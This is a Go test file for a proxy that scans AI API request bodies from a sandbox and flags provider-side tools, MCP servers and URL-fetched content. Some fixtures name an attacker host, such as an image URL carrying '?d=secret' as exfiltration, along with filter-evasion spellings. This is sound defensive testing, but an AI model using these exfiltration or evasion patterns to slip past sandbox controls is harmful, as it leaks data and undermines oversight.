package modelproxy

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestProviderTool(t *testing.T) {
	long := strings.Repeat("x", maxToolNameInError+1)
	for _, tc := range []struct {
		body, want string
		ok         bool
	}{
		// What Claude Code sends: tools of its own, no type.
		{`{"model":"m","max_tokens":1,"tools":[{"name":"Bash","input_schema":{}},{"name":"Read","input_schema":{}}]}`, "", true},
		{`{"tools":[{"type":"custom","name":"a"}]}`, "", true},
		{`{"tools":[{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"computer_20250124"},{"type":"memory_20250818"}]}`, "", true},
		{`{"tools":[]}`, "", true},
		{`{"messages":[{"role":"user","content":"web_search_20250305"}]}`, "", true},
		{`{"tools":"not a list"}`, "", true},
		// The provider's own tools.
		{`{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, `tool type "web_search_20250305"`, true},
		{`{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`, `tool type "web_fetch_20250910"`, true},
		{`{"tools":[{"type":"code_execution_20250825"}]}`, `tool type "code_execution_20250825"`, true},
		{`{"tools":[{"type":"bash_code_execution"}]}`, `tool type "bash_code_execution"`, true},
		{`{"tools":[{"type":"bash_20250124x"}]}`, `tool type "bash_20250124x"`, true},
		{`{"tools":[{"type":"Custom"}]}`, `tool type "Custom"`, true},
		{`{"tools":[{"type":""}]}`, `tool type "?"`, true},
		{`{"tools":[{"type":7}]}`, `tool type "?"`, true},
		{`{"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp"}]}`, `"mcp_servers"`, true},
		{`{"container":"c_1"}`, `"container"`, true},
		{`{"mcp_servers":null}`, "", true},
		{`{"tools":[{"type":"` + long + `"}]}`, `tool type "` + long[:maxToolNameInError] + "..." + `"`, true},
		// Content the provider fetches from an address.
		{`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}`, urlSource, true},
		{`{"messages":[{"role":"user","content":[{"type":"document","source":{"TYPE":"URL","url":"https://a.example/x.pdf"}}]}]}`, urlSource, true},
		{`{"system":[{"type":"text","text":"x"}],"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}`, "", true},
		{`{"messages":[{"role":"user","content":"{\"type\":\"url\"}"}],"metadata":{"url":"type"}}`, "", true},
		{`{"tools":[{"name":"f","input_schema":{"type":"object","properties":{"type":{"type":"string"}}}}]}`, "", true},
		{`{"tools":[{"name":"f","input_schema":{"type":"object","properties":{"u":{"type":"url"}}}}]}`, urlSource, true},
		{`{"tools":[{"type":{"x":1}}]}`, `tool type "?"`, true},
		{`{"tools":[{"type":null}]}`, `tool type "?"`, true},
		{`{"tools":[[{"type":"web_search_20250305"}]]}`, "", true},
		// Every spelling an upstream might read counts.
		{`{"Tools":[{"type":"web_search_20250305"}]}`, `tool type "web_search_20250305"`, true},
		{`{"tools":[{"TYPE":"web_search_20250305"}]}`, `tool type "web_search_20250305"`, true},
		{`{"tools":[{"type":"custom","type":"web_fetch_20250910"}]}`, `tool type "web_fetch_20250910"`, true},
		{`{"tools":[{"type":"web_fetch_20250910","type":"custom"}]}`, `tool type "web_fetch_20250910"`, true},
		{`{"tools":[{"type":"web_search_20250305"}],"tools":[]}`, `tool type "web_search_20250305"`, true},
		{`{"t\u006fols":[{"type":"web_search_20250305"}]}`, `tool type "web_search_20250305"`, true},
		{`{"MCP_Servers":[]}`, `"MCP_Servers"`, true},
		// What cannot be read is not forwarded.
		{`not json`, "", false},
		{`[{"tools":[]}]`, "", false},
		{`{"tools":[]} {"tools":[{"type":"web_search_20250305"}]}`, "", false},
	} {
		got, ok := providerTool([]byte(tc.body))
		if got != tc.want || ok != tc.ok {
			t.Errorf("%s: %q, %v; want %q, %v", tc.body, got, ok, tc.want, tc.ok)
		}
	}
}

// FuzzProviderTool: whatever body a sandbox sends, the scanner finds what
// encoding/json's Decoder found (providerToolDecoder), a tool type Go's
// own decoder reads as the provider's is found, and what is named back is
// short.
func FuzzProviderTool(f *testing.F) {
	f.Add([]byte(`{"tools":[{"type":"web_search_20250305"}]}`))
	f.Add([]byte(`{"tools":[{"name":"a"},{"Type":"custom","type":"x"}],"mcp_servers":[]}`))
	f.Add([]byte(`{"tools":[{"type":"bash_20250124"}]}`))
	f.Add([]byte(`{"t\u006fols":[{"typ\u0065":"web_search_20250305"}],"m\u0063p_servers":null}`))
	f.Add([]byte(`{"toolſ":[{"TYPE":"\u0055rl"}],"x":[1,true,null,"a\"b"]}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		name, ok := providerTool(body)
		if rname, rok := providerToolDecoder(body); name != rname || ok != rok {
			t.Fatalf("%q: %q, %v; encoding/json's Decoder read %q, %v", body, name, ok, rname, rok)
		}
		if len(name) > len(`tool type ""`)+maxToolNameInError+len("...") {
			t.Fatalf("named back %d bytes", len(name))
		}
		var req struct {
			Tools []struct {
				Type *string `json:"type"`
			} `json:"tools"`
		}
		if !ok || name != "" || json.Unmarshal(body, &req) != nil {
			return
		}
		for _, tool := range req.Tools {
			if tool.Type != nil && *tool.Type != "custom" && !clientToolType.MatchString(*tool.Type) {
				t.Fatalf("tool type %q passed", *tool.Type)
			}
		}
	})
}

// floodBody is a request of n small numbers with a provider tool at its
// end: every token is read before the tool is found.
func floodBody(n int) []byte {
	return []byte(`{"max_tokens":1,"a":[` + strings.Repeat("0,", n) + `0],"tools":[{"type":"web_search_20250305"}]}`)
}

// TestBodyChecksAllocateNothingPerToken: the checks of a request body
// cost no allocation per token. encoding/json's Decoder made several a
// token: a 32 MiB body of small numbers took the broker 8 s of CPU, with
// a sandbox free to send eight at once (measured: 7.8 s with the
// Decoder, 0.46 s with the scanner).
func TestBodyChecksAllocateNothingPerToken(t *testing.T) {
	body := floodBody(100_000)
	for name, check := range map[string]func(){
		"providerTool": func() {
			if tool, ok := providerTool(body); tool != `tool type "web_search_20250305"` || !ok {
				t.Fatalf("providerTool: %q, %v", tool, ok)
			}
		},
		"outputCharge": func() {
			if charge := outputCharge(body); charge != 1 {
				t.Fatalf("outputCharge: %d", charge)
			}
		},
	} {
		if allocs := testing.AllocsPerRun(3, check); allocs > 20 {
			t.Errorf("%s: %.0f allocations for 100,001 tokens", name, allocs)
		}
	}
}

// BenchmarkBodyChecks: the two checks of a Messages request body against
// json.Valid on the same 32 MiB body (the floor: each check runs it
// first).
func BenchmarkBodyChecks(b *testing.B) {
	body := floodBody(16<<20 - 32)
	for name, check := range map[string]func(){
		"valid":        func() { json.Valid(body) },
		"providerTool": func() { providerTool(body) },
		"outputCharge": func() { outputCharge(body) },
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				check()
			}
		})
	}
}
